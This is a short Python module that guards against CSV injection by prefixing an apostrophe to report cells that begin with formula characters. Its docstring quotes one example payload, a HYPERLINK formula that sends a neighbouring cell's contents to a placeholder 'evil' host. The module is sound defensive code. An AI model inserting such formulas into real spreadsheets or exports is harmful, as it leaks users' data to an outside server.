"""Cells of the CSV files the hub writes (usage reports, quality reports): harvested text is data.

A spreadsheet program opening a CSV runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return first) as a formula: a harvested title such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the member's computer (CSV injection). Every CSV
writer of the hub passes its rows through :func:`safe_row`, the one place that neutralises them.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet shows it as text: a string starting a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """A CSV row with every cell passed through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]
